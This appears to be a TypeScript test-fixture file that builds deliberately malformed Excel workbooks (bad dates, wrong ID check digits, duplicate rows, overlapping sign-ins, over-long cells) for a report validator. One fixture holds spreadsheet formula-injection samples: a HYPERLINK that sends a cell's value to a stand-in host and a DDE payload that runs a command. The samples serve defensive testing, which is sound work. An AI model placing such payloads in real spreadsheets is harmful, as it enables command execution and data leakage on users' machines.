import { writeXlsx } from '../../src/platform/sheets/xlsx/write.ts';
import type { Officer, People } from '../people.ts';
import { at, type DirtyFile, type Rows } from './fault.ts';
import { good, heading } from './files.ts';
import { rawWorkbook, textCell, textRow, workbook } from './write.ts';

const sheet = '学习教育活动';

const file = (
  path: string,
  about: string,
  rows: Rows,
  marks: { faults?: readonly string[]; notes?: readonly string[]; good: number; sheet?: string },
): DirtyFile => {
  const name = marks.sheet ?? sheet;
  return {
    path,
    about,
    faults: at(name, ...(marks.faults ?? [])),
    notes: at(name, ...(marks.notes ?? [])),
    good: marks.good,
    write: (target) => workbook(target, name, rows),
  };
};

/** One person's line in a roster; the columns a unit would send. */
const rosterHeading = [
  '警号',
  '姓名',
  '性别',
  '身份证号',
  '单位',
  '人员类别',
  '是否党员',
  '班子成员',
  '是否主要负责同志',
  '人员状态',
];
const rosterRow = (number: string, idNo: string): string[] => [
  number,
  '赵某',
  '男',
  idNo,
  '市司法局',
  '公务员',
  '是',
  '否',
  '否',
  '在职',
];

/** Headings that are wrong, cells that are wrong, and rows that contradict one another or the city's records. */
export function cellFiles(people: People): readonly DirtyFile[] {
  const [first, second] = people.all.filter(({ of }) => of.shortName === '市司法局');
  const roster = people.byUnit.get(first!.of)!.length;
  const sound = first!.idNo!;
  const wrong = `${sound.slice(0, 17)}${sound[17] === '5' ? '6' : '5'}`;
  return [
    file(
      '11-缺列.xlsx',
      'the column of the date is missing',
      [heading.filter((_, index) => index !== 3), good('11-1').filter((_, index) => index !== 3)],
      {
        faults: ['1 sheet.columnMissing'],
        good: 0,
      },
    ),
    file(
      '12-重复列.xlsx',
      'two columns of one name: the first is read',
      [
        [...heading, '活动日期'],
        [...good('12-1'), '2021-05-12'],
      ],
      { notes: ['H1 sheet.columnDoubled'], good: 1 },
    ),
    file(
      '13-改名列.xlsx',
      'a heading nobody knows for a required column',
      [heading.map((name) => (name === '活动日期' ? '哪天办的' : name)), good('13-1')],
      {
        faults: ['1 sheet.columnMissing'],
        good: 0,
      },
    ),
    file(
      '14-表中重复表头.xlsx',
      'the heading again in mid-sheet, a total and a remark at the end',
      [heading, good('14-1'), heading, good('14-2'), ['合计', null, null, null, null, null, 24], ['备注：含下属单位']],
      {
        notes: ['3 row.headerRepeated', '5 row.footer', '6 row.footer'],
        good: 2,
      },
    ),
    file(
      '15-日期不存在.xlsx',
      'days that do not exist, short years, days without a month',
      [
        heading,
        good('15-1', '2021-02-29'),
        good('15-2', '2021年4月31日'),
        good('15-3', '21.3.5'),
        good('15-4', '2021年3月'),
        good('15-5', '三月五日'),
        good('15-6', '２０２１．５．６'),
      ],
      { faults: ['D2 cell.value', 'D3 cell.value', 'D4 cell.value', 'D5 cell.value', 'D6 cell.value'], good: 1 },
    ),
    file(
      '16-身份证校验码错.xlsx',
      'id numbers with a wrong check digit, too short, or cut by Excel',
      [rosterHeading, rosterRow('DZ001', wrong), rosterRow('DZ002', sound.slice(0, 17)), rosterRow('DZ003', '')],
      {
        sheet: '政法干警',
        faults: ['D2 cell.value', 'D3 cell.value'],
        good: 1,
      },
    ),
    file(
      '17-单位不明.xlsx',
      'a unit that is in no register, and an empty one',
      [heading, good('17-1').with(5, '城南公安分局'), good('17-2').with(5, ''), good('17-3')],
      {
        faults: ['F2 ref.unknown', 'F3 cell.required'],
        good: 1,
      },
    ),
    file(
      '18-编号重复.xlsx',
      'one number for two sessions',
      [heading, good('18-1'), good('18-1').with(2, '另一场活动'), good('18-2')],
      {
        faults: ['A3 row.duplicate'],
        good: 2,
      },
    ),
    file(
      '19-人数超过花名册.xlsx',
      'more people at a session than the unit has',
      [heading, good('19-1').with(6, String(roster + 1)), good('19-2')],
      {
        faults: ['G2 set.atMost'],
        good: 1,
      },
    ),
    twoPlaces(first!, second!),
    file(
      '21-两家重复填报.xlsx',
      'one session counted by two units',
      [
        heading,
        good('21-1').with(2, '联合主题党日'),
        good('21-2').with(2, '联合主题党日').with(5, '市检察院'),
        good('21-3'),
      ],
      {
        faults: ['B3 set.onlyOnce'],
        good: 2,
      },
    ),
    formulas(),
    longCells(),
    file(
      '24-数字列里是文字.xlsx',
      'text, a fraction and a negative number where a count should be',
      [
        heading,
        good('24-1').with(6, '约三十人'),
        good('24-2').with(6, '12.5'),
        good('24-3').with(6, '-3'),
        good('24-4').with(6, '１２'),
      ],
      {
        faults: ['G2 cell.value', 'G3 cell.value', 'G4 number.negative'],
        good: 1,
      },
    ),
    file(
      '25-类型不在选项.xlsx',
      'a kind that is not on the list',
      [heading, good('25-1').with(1, '茶话会'), good('25-2')],
      { faults: ['B2 choice.unknown'], good: 1 },
    ),
  ];
}

/** One officer at two sessions of one evening. The sessions stand in the same workbook. */
function twoPlaces(first: Officer, second: Officer): DirtyFile {
  const list = '学习教育签到';
  const evening = (number: string, { officerNo }: Officer, from: string, to: string): string[] => [
    `ZD-20-${number}`,
    officerNo,
    '市司法局',
    '2021-06-30',
    `2021-06-30 ${from}`,
    `2021-06-30 ${to}`,
  ];
  return {
    path: '20-一人两处.xlsx',
    about: 'one officer at two places at once',
    faults: at(list, 'E3 set.overlap'),
    notes: [],
    good: 4,
    write: (path) =>
      writeXlsx(path, [
        { name: sheet, rows: [[heading, good('20-1', '2021-06-30'), good('20-2', '2021-06-30')]] },
        {
          name: list,
          rows: [
            [
              ['活动编号', '干警编号', '单位', '参加日期', '签到时间', '签退时间'],
              evening('1', first, '18:00', '20:00'),
              evening('2', first, '19:00', '21:00'),
              evening('1', second, '18:00', '20:00'),
            ],
          ],
        },
      ]),
  };
}

/** Formulas are read as the values they had; an error is no value; text that looks like a formula stays text. */
function formulas(): DirtyFile {
  const cells = (number: number, texts: readonly string[], last: string): string =>
    `<row r="${number}">${texts.map((text, index) => textCell(`${String.fromCharCode(65 + index)}${number}`, text)).join('')}${last}</row>`;
  return {
    path: '22-公式和公式注入.xlsx',
    about: 'a formula with its value, a formula error, and text that a spreadsheet program would run',
    faults: at(sheet, 'G3 cell.value'),
    notes: [],
    good: 2,
    write: (path) =>
      rawWorkbook(path, sheet, [
        textRow(1, heading),
        cells(2, good('22-1').slice(0, 6), '<c r="G2"><f>6+6</f><v>12</v></c>'),
        cells(3, good('22-2').slice(0, 6), '<c r="G3" t="e"><f>#REF!+1</f><v>#REF!</v></c>'),
        textRow(
          4,
          good('22-3')
            .with(2, '=HYPERLINK("http://demo.invalid/?"&A1,"点击查看")')
            .with(4, "@SUM(1+1)*cmd|' /C calc'!A0"),
        ),
      ]),
  };
}

/** Forty thousand characters in one cell: beyond what Excel holds and what the column takes. */
function longCells(): DirtyFile {
  return {
    path: '23-四万字单元格.xlsx',
    about: 'a title of 40,000 characters',
    faults: at(sheet, 'C2 cell.problem sheet.cellTooLong', 'C2 cell.tooLong', 'C3 cell.tooLong'),
    notes: [],
    good: 1,
    write: (path) =>
      rawWorkbook(path, sheet, [
        textRow(1, heading),
        textRow(2, good('23-1').with(2, '长'.repeat(40_000))),
        textRow(3, good('23-2').with(2, '长'.repeat(201))),
        textRow(4, good('23-3')),
      ]),
  };
}
